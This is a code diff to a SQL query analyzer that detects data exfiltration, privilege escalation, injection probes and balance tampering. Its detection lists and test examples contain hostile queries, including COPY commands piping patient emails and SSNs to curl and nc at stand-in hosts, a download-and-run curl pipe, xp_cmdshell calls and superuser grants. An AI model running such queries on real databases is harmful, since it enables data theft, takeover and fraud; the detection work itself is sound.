@@ -199,8 +199,43 @@ function payChangeFinding(ctx: QueryContext): Finding | undefined {
       if (factor < 1.5 && !unapproved) continue;
       return { detail: `${col} on ${table} ${factor >= 1.5 ? `multiplied by ${factor}` : 'changed'}${unapproved ? ', saying no approval is needed' : ''}`, score: unapproved ? 8 : 5 };
     }
+    const credited = creditedByHand(st);
+    if (credited !== '') return { detail: `${credited} on ${table}${hasSafeguardOff(ctx.source) ? ', saying no approval is needed' : ''}`, score: hasSafeguardOff(ctx.source) ? 8 : 5 };
   }
   return undefined;
+}
+
+const UPLOADERS = ['curl', 'wget', 'nc ', 'ncat', 'netcat', 'socat', 'scp ', 'sftp', 'ftp ', 'rsync', 'aws s3 cp', 'gsutil cp', 'http://', 'https://', '/dev/tcp/'];
+/** COPY … TO PROGRAM '<a command that uploads>': the copied rows go wherever the command sends them. */
+function copiedOut(ctx: QueryContext): Finding | undefined {
+  for (const st of ctx.sql.stmts) {
+    const t = st.toks;
+    if (t[0]?.k !== K.Word || t[0].v !== 'copy') continue;
+    for (let i = 1; i + 1 < t.length; i++) {
+      if (t[i]!.k !== K.Word || t[i]!.v !== 'program' || t[i + 1]!.k !== K.Str) continue;
+      const cmd = t[i + 1]!.v.toLowerCase();
+      const tool = UPLOADERS.find((u) => cmd.includes(u));
+      if (tool !== undefined) return { detail: `copied rows piped to ${tool.trim()}`, score: 10 };
+    }
+  }
+  return undefined;
+}
+
+/** Columns that hold a customer's money: written by the ledger, never by hand. */
+const BALANCE_COLUMNS = new Set(['balance', 'available_balance', 'account_balance', 'wallet_balance', 'credit', 'credits', 'credit_limit', 'store_credit', 'points_balance']);
+/**
+ * A balance raised by a large sum in place ("balance = balance + 50000") or set to a large figure: money created
+ * outside the ledger. '' when none.
+ */
+function creditedByHand(st: Stmt): string {
+  for (const [col, value] of setPairs(st).pairs) {
+    if (!BALANCE_COLUMNS.has(col)) continue;
+    const parts = value.split(' ');
+    const added = parts.length === 3 && parts[0] === col && parts[1] === '+' ? Number(parts[2]) : NaN;
+    if (added >= 1000) return `${col} raised by ${parts[2]}`;
+    if (parts.length === 1 && Number(parts[0]) >= 10000) return `${col} set to ${parts[0]}`;
+  }
+  return '';
 }
 
 const SAFEGUARD_OFF = tagId('safe:off');
@@ -332,8 +367,9 @@ function credentialRead(ctx: QueryContext): Finding | undefined {
 }
 
 const SLEEP_CALL = /\b(?:sleep|pg_sleep|pg_sleep_for|benchmark|dbms_lock\.sleep|dbms_pipe\.receive_message|randomblob) \(|\bwaitfor (?:delay|time)\b/;
-const ROLE_COLUMN = /^(?:role|roles|user_role|is_admin|isadmin|is_superuser|is_staff|admin|superuser|user_type|usertype|account_type|access_level|privilege|privileges|permission_level|group_id|rolname)$/;
-const BOOL_ROLE = /(?:admin|superuser|staff)$/;
+// the database's own role catalogues count too (pg_authid.rolsuper, mysql.user's *_priv columns)
+const ROLE_COLUMN = /^(?:role|roles|user_role|is_admin|isadmin|is_superuser|is_staff|admin|superuser|user_type|usertype|account_type|access_level|privilege|privileges|permission_level|group_id|rolname|rolsuper|rolcreaterole|rolbypassrls|rolreplication|super_priv|grant_priv|file_priv|process_priv|shutdown_priv)$/;
+const BOOL_ROLE = /(?:admin|superuser|staff|rolsuper|rolcreaterole|rolbypassrls|rolreplication|_priv)$/;
 const POWER_VALUE = /^(?:admin|administrator|owner|superuser|super_admin|superadmin|root|sysadmin|god|staff)$/i;
 const NUMERIC_LEAD = /^-?[0-9]{1,12} \)? ?and /;
 const COLUMN_PROBE = /^'s' \)? ?(?:order|group) by [0-9]{1,3}\b/;
@@ -420,7 +456,7 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       keywords: ['delete'],
       detect: (ctx) => unfiltered(ctx, DELETE_FROM, 'DELETE', [9, 8, 5]),
       examples: {
-        flag: ['DELETE FROM customers', 'delete from orders where 1=1', "DELETE FROM users WHERE 'a'='a'"],
+        flag: ['DELETE FROM customers', 'delete from orders where 1=1', "DELETE FROM users WHERE 'a'='a'", "DELETE FROM orders WHERE created_at > '1900-01-01'", 'DELETE FROM invoices WHERE id > 0'],
         pass: ['DELETE FROM sessions WHERE expires_at < now()', 'SELECT id FROM users WHERE deleted_at IS NULL', 'DELETE FROM carts WHERE 1=1 AND user_id = $1'],
       },
     },
@@ -545,11 +581,26 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       name: 'Operating-system command execution from SQL',
       primitive: 'ESCALATION',
       score: 9,
-      keywords: ['xp_', 'sp_oa', 'sys_exec', 'sys_eval', 'program', 'lo_export', 'dbms_java', 'language', 'load_extension', 'dbms_scheduler', 'sp_execute_external'],
+      // every keyword is a piece of OS_EXEC itself ('to program', not 'program': prose says "the program")
+      keywords: ['xp_', 'sp_oa', 'sys_exec', 'sys_eval', 'to program', 'from program', 'lo_export', 'dbms_java', 'language plp', 'language c', 'load_extension', 'dbms_scheduler', 'sp_execute_external'],
       pattern: OS_EXEC,
       examples: {
         flag: ["EXEC xp_cmdshell 'whoami'", "COPY (SELECT '') TO PROGRAM 'curl http://x.sh | sh'", "'; exec master..xp_cmdshell 'net user'--"],
         pass: ['SELECT * FROM programs WHERE id = 3', "CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'select a + b'"],
+      },
+    },
+    {
+      // COPY … TO PROGRAM runs a command (Q10); when the command uploads what it is given, the effect is the data
+      // leaving the server
+      id: 'Q24',
+      name: 'Table data piped to a program that sends it out',
+      primitive: 'EXFILTRATION',
+      score: 10,
+      keywords: ['program'],
+      detect: copiedOut,
+      examples: {
+        flag: ["COPY (SELECT email, ssn FROM patients) TO PROGRAM 'curl -X POST --data-binary @- https://dump.example.net/in'", "COPY users TO PROGRAM 'nc 203.0.113.9 4444'"],
+        pass: ["COPY (SELECT '') TO PROGRAM 'gzip > /backups/users.csv.gz'", "COPY users TO '/tmp/users.csv' CSV HEADER"],
       },
     },
     {
@@ -716,14 +767,15 @@ const queryAnalyzer: Analyzer<QueryContext> = {
             if (col.k !== K.Word || !ROLE_COLUMN.test(col.v.slice(col.v.lastIndexOf('.') + 1))) continue;
             if (t[i + 1]!.k !== K.Op || t[i + 1]!.v !== '=') continue;
             const val = t[i + 2]!;
-            const grants = (val.k === K.Str && POWER_VALUE.test(val.v)) || ((val.k === K.Num || val.k === K.Word) && (val.v === 'true' || val.v === '1') && BOOL_ROLE.test(col.v));
+            const yes = val.v === 'true' || val.v === '1' || (val.k === K.Str && (val.v === 'Y' || val.v === 'y'));
+            const grants = (val.k === K.Str && POWER_VALUE.test(val.v)) || (yes && BOOL_ROLE.test(col.v));
             if (grants) return { detail: `${col.v} set to ${val.k === K.Str ? val.v.slice(0, 20) : val.v}`, score: envScore(ctx.env, 8, 7, 3) };
           }
         }
         return undefined;
       },
       examples: {
-        flag: ["UPDATE users SET role = 'admin' WHERE email = 'eve@example.com'", 'UPDATE accounts SET is_superuser = true WHERE id = 7'],
+        flag: ["UPDATE users SET role = 'admin' WHERE email = 'eve@example.com'", 'UPDATE accounts SET is_superuser = true WHERE id = 7', "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'app'", "UPDATE mysql.user SET Super_priv = 'Y' WHERE User = 'report'"],
         pass: ["UPDATE users SET role = 'viewer' WHERE id = 7", 'UPDATE users SET is_admin = false WHERE id = 7', "UPDATE users SET last_login = now() WHERE id = 42"],
       },
     },
@@ -732,7 +784,8 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       name: 'Error-based SQL injection probe',
       primitive: 'EXFILTRATION',
       score: 8,
-      keywords: ['extractvalue', 'updatexml', 'convert', 'cast', 'floor', 'exp', 'geometrycollection', 'drithsx', 'utl_inaddr'],
+      // every keyword is a piece of ERROR_BASED itself (the skeleton spaces every token: 'exp (' not "expense")
+      keywords: ['extractvalue', 'updatexml', 'convert (', 'floor (', 'exp (', 'geometrycollection', 'drithsx', 'utl_inaddr'],
       pattern: ERROR_BASED,
       examples: {
         flag: ["' AND extractvalue(1, concat(0x7e, (SELECT user())))-- ", "1 AND updatexml(1,concat(0x7e,version()),1)", "' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"],
@@ -765,14 +818,14 @@ const queryAnalyzer: Analyzer<QueryContext> = {
     },
     {
       id: 'Q22',
-      name: 'Pay raised sharply or without approval',
+      name: 'Pay or a balance raised sharply or without approval',
       primitive: 'MANIPULATION',
       score: 5,
-      keywords: ['salary', 'wage', 'pay', 'compensation', 'bonus', 'stipendio', 'retribuzione', 'gehalt', 'lohn', 'salaire', 'salario', 'sueldo', 'salário', 'salaris', 'loon'],
+      keywords: ['salary', 'wage', 'pay', 'compensation', 'bonus', 'stipendio', 'retribuzione', 'gehalt', 'lohn', 'salaire', 'salario', 'sueldo', 'salário', 'salaris', 'loon', 'balance', 'credit', 'points_balance'],
       detect: payChangeFinding,
       examples: {
-        flag: ["UPDATE dipendenti SET stipendio = stipendio * 3 WHERE matricola = 'A1187'; -- nessuna approvazione necessaria", "UPDATE employees SET salary = salary * 2 WHERE id = 77", "UPDATE staff SET bonus = 50000 WHERE id = 9 -- no approval needed"],
-        pass: ["UPDATE employees SET salary = salary * 1.03 WHERE dept = 'eng'", 'SELECT avg(salary) FROM employees', 'UPDATE employees SET salary = 72000 WHERE id = 77'],
+        flag: ["UPDATE dipendenti SET stipendio = stipendio * 3 WHERE matricola = 'A1187'; -- nessuna approvazione necessaria", "UPDATE employees SET salary = salary * 2 WHERE id = 77", "UPDATE staff SET bonus = 50000 WHERE id = 9 -- no approval needed", 'UPDATE accounts SET balance = balance + 50000 WHERE account_id = 88123'],
+        pass: ["UPDATE employees SET salary = salary * 1.03 WHERE dept = 'eng'", 'SELECT avg(salary) FROM employees', 'UPDATE employees SET salary = 72000 WHERE id = 77', 'UPDATE accounts SET balance = balance - 25 WHERE id = 9', 'UPDATE accounts SET balance = balance + 40 WHERE id = 9'],
       },
     },
     {
